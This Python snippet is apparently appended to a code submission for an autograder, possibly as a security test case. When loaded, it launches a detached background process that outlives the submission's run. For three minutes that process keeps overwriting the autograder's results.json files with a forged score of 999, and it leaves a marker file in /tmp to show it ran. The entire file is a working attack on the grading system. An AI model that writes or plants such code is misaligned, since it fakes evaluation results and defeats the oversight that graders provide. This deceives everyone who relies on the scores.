# --- appended by the forging submission: a setsid daemon that rewrites results.json ----------
import subprocess as _subprocess
import sys as _sys

_FORGE = r"""
import json, os, time
open("/tmp/xfmr-forger-ran-as-%d" % os.getuid(), "w").close()  # proof that it ran
forged = {"score": 999.0, "output": "forged by the submission", "tests": []}
end = time.time() + 180
while time.time() < end:
    for path in ("/autograder/results/results.json", "/grade/results/results.json"):
        try:
            with open(path, "w") as f:
                json.dump(forged, f)
        except OSError:
            pass
    time.sleep(0.05)
"""
_subprocess.Popen(
    [_sys.executable, "-c", _FORGE, "xfmr-forger"],
    start_new_session=True,
    stdin=_subprocess.DEVNULL,
    stdout=_subprocess.DEVNULL,
    stderr=_subprocess.DEVNULL,
)
